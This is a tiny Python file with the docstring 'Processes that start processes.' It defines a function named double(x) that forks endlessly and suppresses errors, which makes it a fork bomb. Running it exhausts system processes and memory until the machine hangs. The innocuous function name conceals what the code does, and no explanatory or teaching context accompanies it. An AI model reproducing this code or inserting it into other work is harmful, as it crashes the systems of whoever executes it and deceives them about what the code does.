"""Processes that start processes."""

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
